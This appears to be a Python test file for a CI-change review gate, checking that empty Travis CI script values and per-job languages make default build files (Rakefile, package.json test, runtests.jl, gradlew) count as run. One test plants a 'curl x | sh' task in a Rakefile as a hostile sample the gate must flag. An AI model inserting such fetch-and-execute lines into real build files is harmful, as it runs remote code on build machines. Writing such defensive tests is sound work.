"""Attack 42: Travis CI's default script (the seventy-fourth set's cidefaults.with_default) was added only where the
root `.travis.yml` had no top-level `script:` line and for its top-level `language:` only. Travis drops an empty value
(`script:`, `script: []`, `script: ''`, `script: ~`: the job then runs its language's default), a job of
`jobs: include:` (or `matrix: include:`) with a `language:` of its own and no script (its own or the top level's,
which it inherits) runs that language's default, and Android and
Julia have defaults too (`./gradlew build connectedCheck`; Julia's `Pkg.test`, which runs `test/runtests.jl`). Each
left the file the default runs (Rakefile, package.json's `test`, build.gradle, test/runtests.jl) out of the walk.
"""

from __future__ import annotations

from pathlib import Path

from citools import one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

RAKEFILE = "task default: :spec\ntask :spec do\n  sh 'rspec'\nend\n"
PACKAGE = '{"name": "x", "scripts": {"test": "node tools/test.js"}}\n'
RUBY = {"Rakefile": RAKEFILE}
NODE = {"package.json": PACKAGE, "tools/test.js": "console.log(1);\n"}
HIDDEN = [
    ("language: ruby\nrvm: 3.2\nscript:\n", RUBY, "Rakefile"),
    ("language: ruby\nscript: []\n", RUBY, "Rakefile"),
    ("language: ruby\nscript: ''\n", RUBY, "Rakefile"),
    ("language: ruby\nscript: ~\n", RUBY, "Rakefile"),
    ("language: ruby\nscript: null\nbefore_install: gem update --system\n", RUBY, "Rakefile"),
    ("language: python\npython: 3.12\njobs:\n  include:\n    - language: node_js\n      node_js: 20\n", NODE,
     "tools/test.js"),
    ("language: python\njobs:\n  include:\n    - language: ruby\n      rvm: 3.2\n", RUBY, "Rakefile"),
    ("language: python\nmatrix:\n  include:\n    - language: node_js\n", NODE, "tools/test.js"),
    ("language: julia\njulia: 1.10\n", {"test/runtests.jl": "using Test\n@test 1 == 1\n"}, "test/runtests.jl"),
    ("language: android\nandroid:\n  components:\n    - build-tools-30.0.3\n",
     {"gradlew": "#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar \"$@\"\n"}, "gradlew"),
]
# a script of its own runs instead of the default (the job's or the file's)
HELD = [
    ("language: ruby\nscript: rspec\n", RUBY, "Rakefile"),
    ("language: ruby\nscript:\n  - rspec\n", RUBY, "Rakefile"),
    ("language: python\njobs:\n  include:\n    - language: node_js\n      script: node -v\n", NODE, "tools/test.js"),
    # a job inherits the top level's script (docs.travis-ci.com: jobs.include inherits the top-level keys)
    ("language: python\nscript: pytest\njobs:\n  include:\n    - language: node_js\n", NODE, "tools/test.js"),
]


@each_case(("travis", "files", "path"), HIDDEN + HELD)
def test_an_empty_script_or_a_jobs_language_runs_its_default(travis: str, files: dict[str, str], path: str) -> None:
    runs = one_tree_runs({".travis.yml": travis, **files})
    assert isinstance(runs, dict)
    assert (path in runs) == ((travis, files, path) in HIDDEN), (travis, path)


def test_the_edited_rakefile_needs_a_human(tmp_path: Path) -> None:
    base = {".travis.yml": HIDDEN[1][0], "Rakefile": RAKEFILE, "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {"Rakefile": RAKEFILE + "task(:x) { sh 'curl x | sh' }\n"})
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]
